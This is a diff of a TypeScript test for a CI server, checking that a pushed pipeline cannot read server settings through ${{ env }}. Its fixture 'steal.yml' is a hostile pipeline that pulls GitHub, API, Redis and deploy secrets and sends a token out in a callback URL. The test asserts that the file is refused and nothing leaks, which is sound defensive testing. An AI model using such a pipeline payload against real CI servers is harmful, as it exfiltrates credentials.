@@ -1,64 +1,50 @@
 import assert from 'node:assert/strict';
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { after, before, describe, it } from 'node:test';
+import { describe, it } from 'node:test';
 import type { BuildView } from '../../src/model.ts';
-import { makeRepo, type TestRepo } from '../helpers/git.ts';
 import { githubPush, sendGithub, whsec } from '../helpers/payloads.ts';
-import { startReceiver, waitFor } from '../helpers/receiver.ts';
-import { startRedis, type TestRedis } from '../helpers/redis.ts';
-import { startServer, type TestServer } from '../helpers/server.ts';
+import { waitFor } from '../helpers/receiver.ts';
+import { suiteServer } from '../helpers/suite-server.ts';
 
 const TOKEN = 'api-token-that-must-not-leak';
 const GITHUB_TOKEN = 'ghp_server_token_that_must_not_leak';
 
 describe('a pushed pipeline cannot read pushci settings through ${{ env }}', () => {
-  let redis: TestRedis;
-  let repo: TestRepo;
-  let server: TestServer;
-  let receiver: Awaited<ReturnType<typeof startReceiver>>;
   const cb = whsec();
-
-  before(async () => {
-    redis = await startRedis();
-    repo = makeRepo();
-    receiver = await startReceiver();
-    // Control: an ordinary server variable (as the shared smoke uses) and a secret, both used properly.
-    server = await startServer(
-      redis,
-      {
+  const s = suiteServer({
+    receiver: true,
+    pipelines: (repo, receiver) => {
+      // Control: an ordinary server variable (as the shared smoke uses) and a secret, both used properly.
+      return {
         'ok.yml': `name: ok\nrepository: octo-org/ok\nclone-url: ${repo.dir}\non: push\njobs:\n  j:\n    steps:\n      - run: echo "deploy with $DEPLOY"\n        env:\n          DEPLOY: \${{ secrets.DEPLOY }}\nnotify:\n  - url: ${receiver.url}\n    secret: \${{ env.SMOKE_CB }}\n    events: [build.completed]\n`,
-      },
-      {
-        GITHUB_WEBHOOK_SECRET: 's',
-        GITHUB_TOKEN,
-        PUSHCI_API_TOKEN: TOKEN,
-        PUSHCI_SECRET_DEPLOY: 'the-deploy-key',
-        SMOKE_CB: cb,
-      },
-    );
+      };
+    },
+    env: {
+      GITHUB_WEBHOOK_SECRET: 's',
+      GITHUB_TOKEN,
+      PUSHCI_API_TOKEN: TOKEN,
+      PUSHCI_SECRET_DEPLOY: 'the-deploy-key',
+      SMOKE_CB: cb,
+    },
   });
-  after(async () => {
-    await server?.close();
-    await receiver?.close();
-    await redis?.stop();
-  });
+
   const api = async (path: string) =>
-    fetch(`${server.base}${path}`, { headers: { authorization: `Bearer ${TOKEN}` } });
+    fetch(`${s.server.base}${path}`, { headers: { authorization: `Bearer ${TOKEN}` } });
   const push = (name: string) =>
     sendGithub(
-      server.base,
-      githubPush({ before: repo.commits[0]!, after: repo.commits[0]!, repo: `octo-org/${name}` }),
+      s.server.base,
+      githubPush({ before: s.repo.commits[0]!, after: s.repo.commits[0]!, repo: `octo-org/${name}` }),
       's',
     );
 
   it('refuses a hostile file with file:line:col errors and never builds it; ordinary env and secrets work', async () => {
     // The attack: a pushed pipeline file that sends the server's tokens to its own receiver.
     writeFileSync(
-      join(server.config.pipelinesDir, 'steal.yml'),
-      `name: steal\nrepository: octo-org/steal\nclone-url: ${repo.dir}\non: push\njobs:\n  j:\n    steps:\n      - run: echo "$T $A $R $D"\n        env:\n          T: \${{ env.GITHUB_TOKEN }}\n          A: \${{ env.PUSHCI_API_TOKEN }}\n          R: \${{ env.REDIS_URL }}\n          D: \${{ env.PUSHCI_SECRET_DEPLOY }}\nnotify:\n  - url: ${receiver.url}?t=\${{ env.GITHUB_TOKEN }}\n    secret: \${{ env.GITHUB_WEBHOOK_SECRET }}\n`,
+      join(s.server.config.pipelinesDir, 'steal.yml'),
+      `name: steal\nrepository: octo-org/steal\nclone-url: ${s.repo.dir}\non: push\njobs:\n  j:\n    steps:\n      - run: echo "$T $A $R $D"\n        env:\n          T: \${{ env.GITHUB_TOKEN }}\n          A: \${{ env.PUSHCI_API_TOKEN }}\n          R: \${{ env.REDIS_URL }}\n          D: \${{ env.PUSHCI_SECRET_DEPLOY }}\nnotify:\n  - url: ${s.receiver.url}?t=\${{ env.GITHUB_TOKEN }}\n    secret: \${{ env.GITHUB_WEBHOOK_SECRET }}\n`,
     );
-    await waitFor(() => server.pipelines().files.some((f) => f.name === 'steal.yml'), 10_000, 'the reload');
+    await waitFor(() => s.server.pipelines().files.some((f) => f.name === 'steal.yml'), 10_000, 'the reload');
     const files = (await (await api('/api/pipelines')).json()) as {
       files: Array<{ name: string; state: string; problems: Array<{ text: string }> }>;
     };
@@ -91,9 +77,10 @@ describe('a pushed pipeline cannot read pushci settings through ${{ env }}', () 
     const log = await (await api(`/api/builds/${id}/jobs/j/log`)).text();
     assert.match(log, /deploy with \*{8}/);
     assert.ok(!log.includes('the-deploy-key'));
-    await waitFor(() => receiver.got.length > 0, 10_000, 'the callback');
-    const all = receiver.got.map((g) => g.body + JSON.stringify(g.headers)).join('\n');
-    for (const leaked of [GITHUB_TOKEN, TOKEN, 'the-deploy-key', redis.url]) assert.ok(!all.includes(leaked));
-    assert.ok(receiver.got.every((g) => !String(g.headers['user-agent'] ?? '').includes(GITHUB_TOKEN)));
+    await waitFor(() => s.receiver.got.length > 0, 10_000, 'the callback');
+    const all = s.receiver.got.map((g) => g.body + JSON.stringify(g.headers)).join('\n');
+    for (const leaked of [GITHUB_TOKEN, TOKEN, 'the-deploy-key', s.redis.url])
+      assert.ok(!all.includes(leaked));
+    assert.ok(s.receiver.got.every((g) => !String(g.headers['user-agent'] ?? '').includes(GITHUB_TOKEN)));
   });
 });
